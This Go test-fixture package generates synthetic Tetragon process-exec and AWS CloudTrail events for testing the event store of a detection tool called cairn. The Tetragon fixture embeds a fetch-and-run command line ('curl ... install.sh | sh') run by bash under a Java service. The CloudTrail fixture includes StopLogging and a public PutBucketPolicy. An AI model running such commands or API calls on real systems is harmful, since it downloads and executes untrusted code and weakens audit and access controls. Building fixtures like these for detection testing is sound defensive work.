package storetest

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/cairn-cdr/cairn"
	"github.com/cairn-cdr/cairn/decode"
)

// Base is the time of the first synthetic event.
var Base = time.Date(2025, 3, 14, 9, 26, 53, 589793238, time.UTC)

// Tetragon returns a synthetic Tetragon process_exec event, the i-th of a
// series, at the given time, decoded from a raw record of about 2 KB with
// every part a Tetragon exec carries (stores rebuild events from their raw
// records, so an event and its record must agree). Different i give different ids, exec ids,
// pods and namespaces.
func Tetragon(i int, at time.Time) cairn.Event {
	uid, auid, tty := int64(0), int64(4294967295), int64(0)
	upper, priv := i%7 == 0, false
	ns := []string{"default", "payments", "kube-system", "monitoring"}[i%4]
	pod := fmt.Sprintf("checkout-%d-7d9f8c6b5-x2k4p", i%13)
	ctr := fmt.Sprintf("%012x", 0x19a02291e106+i%17)
	execID := fmt.Sprintf("a2luZC1jb250cm9sLXBsYW5lOjEzMzQ4MjM2NzE4Mzk1OjI%06d", i)
	parentExecID := fmt.Sprintf("a2luZC1jb250cm9sLXBsYW5lOjEzMzQ4MjM2NzE4Mzk1OjI%06d", i/3)
	args := fmt.Sprintf("-c 'curl -fsSL http://10.0.%d.%d:8080/install.sh | sh -s -- --token=%08x'", i%250, i%200, i*2654435761)
	ev := cairn.Event{
		ID:     fmt.Sprintf("tetragon-%08d", i),
		Source: cairn.SourceTetragon,
		Kind:   cairn.KindExec,
		Time:   at,
		Type:   "execve",
		Host:   fmt.Sprintf("ip-10-0-%d-%d.ec2.internal", i%8, i%31),
		Process: &cairn.Process{
			ExecID: execID, ParentExecID: parentExecID,
			PID: int64(40000 + i), PPID: int64(39000 + i/3),
			Name: "bash", Binary: "/usr/bin/bash", Args: args, Cwd: "/app",
			UID: &uid, LoginUID: &auid, TTY: &tty, User: "root",
			StartTime: at.Add(-time.Millisecond), Flags: "execve clone",
			UpperLayer: &upper,
		},
		Parent: &cairn.Process{
			ExecID: parentExecID, PID: int64(39000 + i/3), PPID: 1,
			Name: "java", Binary: "/usr/lib/jvm/java-17-openjdk/bin/java",
			Args: "-jar /app/checkout.jar --spring.profiles.active=prod", Cwd: "/app",
			StartTime: Base.Add(-time.Hour),
		},
		Container: &cairn.Container{
			ID: ctr, FullID: ctr + strings.Repeat("ab", 26), Runtime: "containerd",
			Name: "checkout", Image: "123456789012.dkr.ecr.us-east-1.amazonaws.com/checkout:1.4.2",
			ImageID:    "sha256:" + strings.Repeat("9f", 32),
			Privileged: &priv, StartTime: Base.Add(-2 * time.Hour), PID: int64(1 + i%50),
		},
		K8s: &cairn.K8s{
			Cluster: "prod-eks", Namespace: ns, Pod: pod, PodUID: fmt.Sprintf("6f1c%04d-2b9e-4c1a-9d7e-3f5a8b2c1d0e", i%10000),
			Labels:       map[string]string{"app": "checkout", "tier": "backend"},
			WorkloadKind: "Deployment", WorkloadName: "checkout",
		},
	}
	ev.Raw = []byte(fmt.Sprintf(`{"process_exec":{"process":{"exec_id":%q,"pid":%d,"uid":0,"cwd":"/app","binary":"/usr/bin/bash","arguments":%q,"flags":"execve clone","start_time":%q,"auid":4294967295,"pod":{"namespace":%q,"name":%q,"container":{"id":"containerd://%s","name":"checkout","image":{"id":"123456789012.dkr.ecr.us-east-1.amazonaws.com/checkout@sha256:%s","name":"123456789012.dkr.ecr.us-east-1.amazonaws.com/checkout:1.4.2"},"start_time":"2025-03-14T07:26:53Z","pid":%d},"pod_labels":{"app":"checkout","tier":"backend"},"workload":"checkout","workload_kind":"Deployment"},"docker":"%s","parent_exec_id":%q,"refcnt":1,"tid":%d,"in_init_tree":false},"parent":{"exec_id":%q,"pid":%d,"uid":0,"cwd":"/app","binary":"/usr/lib/jvm/java-17-openjdk/bin/java","arguments":"-jar /app/checkout.jar --spring.profiles.active=prod","flags":"procFS auid","start_time":"2025-03-14T08:26:53Z","auid":4294967295,"pod":{"namespace":%q,"name":%q},"docker":"%s","parent_exec_id":"a2luZC1jb250cm9sLXBsYW5lOjEzMzQ4MjM2NzE4Mzk1OjE","refcnt":2,"tid":%d},"ancestors":[{"exec_id":"a2luZC1jb250cm9sLXBsYW5lOjEzMzQ4MjM2NzE4Mzk1OjE","pid":1,"binary":"/usr/bin/tini","arguments":"-- /docker-entrypoint.sh","flags":"procFS"}]},"node_name":%q,"time":%q,"cluster_name":"prod-eks"}`,
		execID, 40000+i, args, at.Add(-time.Millisecond).Format(time.RFC3339Nano), ns, pod, ev.Container.FullID, strings.Repeat("9f", 32), 1+i%50,
		ctr[:12], parentExecID, 40000+i, parentExecID, 39000+i/3, ns, pod, ctr[:12], 39000+i/3, ev.Host, at.Format(time.RFC3339Nano)))
	return decoded(ev.ID, ev.Raw)
}

// CloudTrail returns a synthetic CloudTrail event, the i-th of a series,
// at the given time, with a raw record of about 2 KB. Different i give
// different ids, calls, identities and source addresses.
func CloudTrail(i int, at time.Time) cairn.Event {
	names := []string{"StopLogging", "ListBuckets", "GetObject", "AssumeRole", "DescribeInstances", "PutBucketPolicy"}
	srcs := []string{"cloudtrail", "s3", "s3", "sts", "ec2", "s3"}
	name, src := names[i%len(names)], srcs[i%len(names)]+".amazonaws.com"
	ro := strings.HasPrefix(name, "List") || strings.HasPrefix(name, "Get") || strings.HasPrefix(name, "Describe")
	mgmt := name != "GetObject"
	mfa := false
	account := "123456789012"
	role := fmt.Sprintf("deploy-role-%d", i%5)
	idType := "AssumedRole"
	key := "arn:aws:iam::" + account + ":role/" + role
	arn := "arn:aws:sts::" + account + ":assumed-role/" + role + fmt.Sprintf("/session-%d", i%9)
	if i%3 == 2 {
		idType = "IAMUser"
		key = "arn:aws:iam::" + account + fmt.Sprintf(":user/alice-%d", i%4)
		arn = key
	}
	ip := fmt.Sprintf("34.%d.%d.%d", 200+i%50, i%256, (i*7)%256)
	if i%4 == 3 {
		ip = fmt.Sprintf("198.51.100.%d", i%256)
	}
	eventID := fmt.Sprintf("%08x-4f3c-4b6e-9a1d-%012x", i, i*7919)
	ev := cairn.Event{
		ID:     "cloudtrail-" + eventID,
		Source: cairn.SourceCloudTrail,
		Kind:   cairn.KindCloud,
		Time:   at,
		Type:   name,
		Cloud: &cairn.CloudCall{
			EventID: eventID, EventName: name, EventSource: src,
			EventType: "AwsApiCall", EventCategory: "Management", EventVersion: "1.09",
			Region: "us-east-1", SourceIP: ip,
			UserAgent: "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.79 exe/x86_64.amzn.2 prompt/off command/" + strings.ToLower(name),
			ReadOnly:  &ro, ManagementEvent: &mgmt, RecipientAccount: account,
			RequestID: fmt.Sprintf("%08X-1A2B-3C4D-5E6F-%012X", i, i*31),
			Identity: cairn.Identity{
				Key: key, Type: idType, ARN: arn, AccountID: account,
				PrincipalID: fmt.Sprintf("AROAEXAMPLE%06d:session-%d", i%5, i%9),
				AccessKeyID: fmt.Sprintf("ASIAEXAMPLE%09d", i%1000),
				SessionName: fmt.Sprintf("session-%d", i%9), IssuerARN: "arn:aws:iam::" + account + ":role/" + role,
				IssuerType: "Role", MFA: &mfa,
			},
		},
	}
	ev.Raw = []byte(fmt.Sprintf(`{"eventVersion":"1.09","userIdentity":{"type":%q,"principalId":"AROAEXAMPLE%06d:session-%d","arn":%q,"accountId":%q,"accessKeyId":"ASIAEXAMPLE%09d","sessionContext":{"sessionIssuer":{"type":"Role","principalId":"AROAEXAMPLE%06d","arn":"arn:aws:iam::%s:role/%s","accountId":%q,"userName":%q},"webIdFederationData":{},"attributes":{"creationDate":"2025-03-14T08:00:00Z","mfaAuthenticated":"false"}}},"eventTime":%q,"eventSource":%q,"eventName":%q,"awsRegion":"us-east-1","sourceIPAddress":%q,"userAgent":%q,"requestParameters":{"bucketName":"prod-artifacts-%d","Host":"prod-artifacts-%d.s3.us-east-1.amazonaws.com","key":"releases/checkout/1.4.2/checkout-%d.jar","name":"management-events-trail","policy":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"s3:GetObject\",\"Resource\":\"arn:aws:s3:::prod-artifacts/*\"}]}"},"responseElements":null,"additionalEventData":{"SignatureVersion":"SigV4","CipherSuite":"TLS_AES_128_GCM_SHA256","bytesTransferredIn":0,"AuthenticationMethod":"AuthHeader","x-amz-id-2":"Zm9vYmFyYmF6cXV4cXV1eGNvcmdlZ3JhdWx0Z2FycGx5d2FsZG9mcmVkcGx1Z2g=","bytesTransferredOut":%d},"requestID":"%08X-1A2B-3C4D-5E6F-%012X","eventID":%q,"readOnly":%t,"resources":[{"type":"AWS::S3::Object","ARN":"arn:aws:s3:::prod-artifacts-%d/releases/checkout/1.4.2/checkout-%d.jar"},{"accountId":%q,"type":"AWS::S3::Bucket","ARN":"arn:aws:s3:::prod-artifacts-%d"}],"eventType":"AwsApiCall","managementEvent":%t,"recipientAccountId":%q,"eventCategory":"Management","tlsDetails":{"tlsVersion":"TLSv1.3","cipherSuite":"TLS_AES_128_GCM_SHA256","clientProvidedHostHeader":"%s"}}`,
		idType, i%5, i%9, arn, account, i%1000, i%5, account, role, account, role,
		at.Format(time.RFC3339Nano), src, name, ip, ev.Cloud.UserAgent, i%3, i%3, i, 1024*(i%100), i, i*31, eventID, ro, i%3, i, account, i%3, mgmt, account, src))
	return decoded(ev.ID, ev.Raw)
}

// Mixed returns n synthetic events, alternating Tetragon and CloudTrail
// (the j-th of each series), one millisecond apart from start.
func Mixed(n int, start time.Time) []cairn.Event {
	evs := make([]cairn.Event, n)
	for i := range evs {
		at := start.Add(time.Duration(i) * time.Millisecond)
		if i%2 == 0 {
			evs[i] = Tetragon(i/2, at)
		} else {
			evs[i] = CloudTrail(i/2, at)
		}
	}
	return evs
}

// decoded returns the event the raw record decodes to, with the id given
// (so that tests can name events), or panics: the records are fixed.
func decoded(id string, raw []byte) cairn.Event {
	ev, err := decode.Record(raw)
	if err != nil {
		panic(fmt.Sprintf("storetest: record of %s does not decode: %v", id, err))
	}
	ev.ID = id
	return ev
}

// Decoded returns the event a raw record decodes to, with the given id.
func Decoded(t testing.TB, id, raw string) cairn.Event {
	t.Helper()
	ev, err := decode.Record([]byte(raw))
	if err != nil {
		t.Fatalf("record of %s does not decode: %v", id, err)
	}
	ev.ID = id
	return ev
}
